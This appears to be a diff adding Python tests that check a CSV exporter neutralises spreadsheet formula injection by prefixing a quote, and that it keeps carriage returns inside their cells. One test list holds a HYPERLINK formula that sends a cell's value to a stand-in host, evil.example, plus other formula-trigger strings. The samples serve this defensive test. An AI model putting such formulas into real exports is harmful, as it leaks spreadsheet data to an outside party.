@@ -66,3 +66,23 @@ def test_a_hidden_character_of_every_class_is_shown_escaped_in_a_table_cell() ->
 def test_csv_keeps_a_hidden_character_as_stored() -> None:
     printed = as_csv([{"a": "x\u200by\U000e0041"}], ["a"])
     assert list(csv.reader(io.StringIO(printed)))[1] == ["x\u200by\U000e0041"]
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
+
+
+def test_csv_prefixes_a_quote_to_every_text_cell_a_spreadsheet_would_read_as_a_formula() -> None:
+    printed = as_csv([{"a": text} for text in FORMULAS], ["a"])
+    assert [row[0] for row in list(csv.reader(io.StringIO(printed)))[1:]] == ["'" + text for text in FORMULAS]
+
+
+def test_csv_leaves_a_number_a_nested_value_and_text_starting_elsewhere_as_they_are() -> None:
+    rows = [{"a": -1, "b": -0.5, "c": ["=x"], "d": "a=b", "e": " =x", "f": "'quoted", "g": ""}]
+    printed = as_csv(rows, list("abcdefg"))
+    assert list(csv.reader(io.StringIO(printed)))[1] == ["-1", "-0.5", '["=x"]', "a=b", " =x", "'quoted", ""]
+
+
+def test_csv_keeps_a_carriage_return_inside_its_cell_so_it_cannot_start_a_row_of_its_own() -> None:
+    planted = "harmless\r@SUM(A1)"  # no quote or comma of its own, which would have it quoted anyway
+    printed = as_csv([{"a": planted, "b": "x"}, {"a": "next", "b": "y"}], ["a", "b"])
+    assert list(csv.reader(io.StringIO(printed, newline=""))) == [["a", "b"], [planted, "x"], ["next", "y"]]
